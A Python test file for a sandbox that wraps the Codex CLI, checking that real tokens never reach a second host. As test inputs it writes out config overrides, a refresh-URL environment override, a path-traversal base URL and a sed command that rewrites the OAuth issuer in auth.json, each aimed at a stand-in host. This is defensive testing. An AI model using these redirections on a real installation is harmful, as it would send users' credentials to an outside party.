"""Settings that the agent can write, and answers that an upstream can give, do not lead a token of the real Codex anywhere else.

The other host is allowed by a rule and listens: what it does not get, it does not get because of the token.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from real_codex import EAR, EXEC, assert_no_leak

from immure.testing.household import Household
from immure.testing.leak import Needles
from immure.testing.openai.scenario import Expire, Say, Script
from immure.testing.openai.service import CHATGPT, FakeOpenAI
from immure.testing.survey import Survey

AGAIN = b"Reconnecting..."
"""What Codex says when something was refused and it tries again, which it does for a quarter of a minute."""
TO_EAR = f"https://{EAR}"
PROVIDER = f'{{name="x",base_url="{TO_EAR}/v1",requires_openai_auth=true,wire_api="responses",request_max_retries=0,stream_max_retries=0}}'
ISSUER = (
    f'sed -i \'s#"account_id"#"oauth_provenance":{{"issuer":"{TO_EAR}","client_id":"app_x"}},"account_id"#\' $CODEX_HOME/auth.json;'
    ' exec codex exec --skip-git-repo-check "go on"'
)


@pytest.fixture
def somewhere_else(fake: FakeOpenAI) -> Iterator[None]:
    """An upstream that sends Codex to another host for its responses."""
    fake.backend_origin = TO_EAR
    yield
    fake.backend_origin = f"https://{CHATGPT}"


def go(home: Household, *words: str, seen: Callable[[], object], allow: str = EAR, env: str = "A=") -> str:
    """Run Codex until what it tried has been seen; what it said."""
    said = b""
    with home.started("run", "--provider", "codex", "--allow", allow, "--env", env, "--", *words) as program:
        assert program.stderr
        for line in program.stderr:
            said += line
            if AGAIN in line and seen():
                break
        program.terminate()
        program.communicate(timeout=30)
    return said.decode()


def findings(home: Household) -> list[dict[str, Any]]:
    events = [json.loads(line) for line in home.run("logs", "--json").stdout.splitlines()]
    return [event for event in events if event["class_uid"] == 2004]


def assert_refused(fake: FakeOpenAI, home: Household, before: int, host: str, port: int) -> None:
    """Nothing came to the other host, and the audit trail says why."""
    assert fake.record.all(host=EAR) == []
    assert fake.record.all(host=CHATGPT), "Codex did not get as far as using its login"
    new = findings(home)[before:]
    assert {name for one in new for name in one["unmapped"]["credentials"]} <= {"codex.access_token", "codex.account_id"}
    assert new
    for one in new:
        assert one["finding_info"]["title"] == "misplaced placeholder"
        assert one["status_detail"].endswith(f"was not sent to {host}: it is not for {host}, port {port}")
        assert one["evidences"][0]["dst_endpoint"] == {"hostname": host, "port": port}
        assert one["evidences"][0]["actor"]["process"]["file"]["name"] == "codex"


SETTINGS = {
    "openai_base_url": (("-c", f'openai_base_url="{TO_EAR}/v1"'), EAR, 443),
    "a model provider": (("-c", f"model_providers.x={PROVIDER}", "-c", 'model_provider="x"'), EAR, 443),
    "another host without TLS": (("-c", f'openai_base_url="http://{EAR}/v1"'), EAR, 80),
    "the right host without TLS": (("-c", f'openai_base_url="http://{CHATGPT}/backend-api/codex"'), CHATGPT, 80),
}


@pytest.mark.parametrize("name", SETTINGS)
def test_a_setting_does_not_move_a_token(fake: FakeOpenAI, home: Household, name: str) -> None:
    options, host, port = SETTINGS[name]
    before = len(findings(home))
    fake.script = Script(Say("Never said."))
    said = go(home, *EXEC, *options, "go on", seen=lambda: findings(home)[before:], allow=f"{host}:{port}")
    assert_refused(fake, home, before, host, port)
    assert_no_leak(fake, home, said)


def test_what_the_account_check_answers_does_not_move_a_token(fake: FakeOpenAI, home: Household, somewhere_else: None) -> None:
    before = len(findings(home))
    fake.script = Script(Say("Never said."))
    said = go(home, *EXEC, "go on", seen=lambda: findings(home)[before:])
    assert_refused(fake, home, before, EAR, 443)
    assert_no_leak(fake, home, said)


REFRESHES = {
    "CODEX_REFRESH_TOKEN_URL_OVERRIDE": (f"CODEX_REFRESH_TOKEN_URL_OVERRIDE={TO_EAR}/oauth/token", (*EXEC, "go on")),
    "oauth_provenance": ("A=", ("sh", "-c", ISSUER)),
}


@pytest.mark.parametrize("name", REFRESHES)
def test_a_refresh_that_is_led_elsewhere_brings_a_placeholder_and_nothing_else(fake: FakeOpenAI, home: Household, name: str) -> None:
    env, words = REFRESHES[name]
    fake.script = Script(Expire(), Say("Never said."))
    said = go(home, *words, seen=lambda: fake.record.all(host=EAR), env=env)
    arrivals = fake.record.all(host=EAR)
    assert arrivals
    survey = Survey(needles=Needles(fake.account.secrets()))
    for arrival in arrivals:
        assert (arrival.method, arrival.path, arrival.bearer) == ("POST", "/oauth/token", "")
        assert json.loads(arrival.body)["refresh_token"].startswith("immure-rt-")
        survey.text(arrival.body + repr(arrival.headers).encode(), "what the other host got")
    assert survey.leaks == []
    events = [json.loads(line) for line in home.run("logs", "--json").stdout.splitlines()]
    there = [one for one in events if one.get("dst_endpoint", {}).get("hostname") == EAR and "http_request" in one]
    assert {(one["action"], tuple(one["unmapped"]["credentials"])) for one in there[-len(arrivals) :]} == {("Allowed", ())}
    assert_no_leak(fake, home, said)


def test_a_path_that_codex_does_not_use_gets_no_token(fake: FakeOpenAI, home: Household) -> None:
    before = len(findings(home))
    fake.script = Script(Say("Never said."))
    base = f'openai_base_url="https://{CHATGPT}/backend-api/../public-api"'
    go(home, *EXEC, "-c", base, "go on", seen=lambda: findings(home)[before:])
    assert {one.path.split("/")[1] for one in fake.record.all(host=CHATGPT)} == {"backend-api"}
    new = findings(home)[before:]
    assert new
    for one in new:
        assert one["status_detail"].partition(": ")[2].startswith("it is not for the path /public-api/")
